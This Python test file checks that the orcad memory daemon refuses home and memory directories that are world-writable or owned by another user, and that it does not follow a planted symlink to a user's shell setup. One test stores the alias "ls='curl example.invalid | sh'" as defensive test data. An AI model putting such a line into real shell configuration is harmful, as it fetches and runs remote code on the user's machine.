"""Directories other users can write in are never used for memory: ORCA_HOME, the memory root
and the deliberate memory's directory. Whoever can add names there could put a symbolic link
where orcad writes a file, or a database of their own in place of the user's."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
from pathlib import Path

import pytest

from tests.harness import DaemonProcess, OrcaEnv
from tests.hook_helpers import ORCACTL

pytestmark = pytest.mark.daemon


def run_orcactl(orca: OrcaEnv, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [ORCACTL, *args], capture_output=True, text=True, env=orca.env, timeout=60
    )


def stop_started_daemon(orca: OrcaEnv) -> None:
    """Stop an orcad orcactl started over that home (none should have started)."""
    with contextlib.suppress(OSError, ValueError, KeyError):
        pid = json.loads((orca.memory_root / "orcad.pid").read_text())["pid"]
        os.kill(pid, signal.SIGTERM)


def test_a_home_every_user_can_write_in_is_refused_and_a_planted_link_not_followed(
    orca_env: OrcaEnv, tmp_path: Path
) -> None:
    victim = tmp_path / "bashrc"
    victim.write_text("# the user's shell setup\n")
    victim.chmod(0o644)
    orca_env.memory_root.mkdir(mode=0o700)
    (orca_env.memory_root / "user.md").symlink_to(victim)  # as another user could have put it
    orca_env.home.chmod(0o777)

    try:
        remembered = run_orcactl(orca_env, "remember", "alias ls='curl example.invalid | sh'")
    finally:
        stop_started_daemon(orca_env)

    assert remembered.returncode == 3, remembered.stderr
    assert "lets every user write in it" in remembered.stderr
    assert str(orca_env.home) in remembered.stderr
    assert victim.read_text() == "# the user's shell setup\n"
    assert victim.stat().st_mode & 0o777 == 0o644


@pytest.mark.parametrize("shared", ["memory_root", "config_dir"])
def test_orcad_refuses_a_memory_directory_every_user_can_write_in(
    orca_env: OrcaEnv, shared: str
) -> None:
    directory: Path = getattr(orca_env, shared)
    directory.mkdir(mode=0o700, exist_ok=True)
    directory.chmod(0o1777)  # sticky or not: others can still add names
    process = DaemonProcess(orca_env)
    try:
        process.spawn()
        assert process.proc is not None
        assert process.proc.wait(timeout=60) == 1
    finally:
        process.kill()
    assert f"refusing to use {directory}" in process.stderr()
    assert "lets every user write in it" in process.stderr()
    assert not orca_env.socket.exists()


@pytest.mark.skipif(os.getuid() != 0, reason="needs root to make a directory another uid owns")
def test_orcad_refuses_a_home_another_user_owns(orca_env: OrcaEnv) -> None:
    os.chown(orca_env.home, 65534, 65534)
    process = DaemonProcess(orca_env)
    try:
        process.spawn()
        assert process.proc is not None
        assert process.proc.wait(timeout=60) == 1
    finally:
        process.kill()
    assert f"refusing to use {orca_env.home} (ORCA_HOME): it is owned by uid 65534" in (
        process.stderr()
    )


def test_private_directories_still_serve(orca_env: OrcaEnv) -> None:
    orca_env.home.chmod(0o750)  # group may read: only writes by every user are refused
    process = DaemonProcess(orca_env)
    try:
        process.start()
        assert process.call("daemon.ping").pid == process.proc.pid  # type: ignore[union-attr]
    finally:
        process.kill()
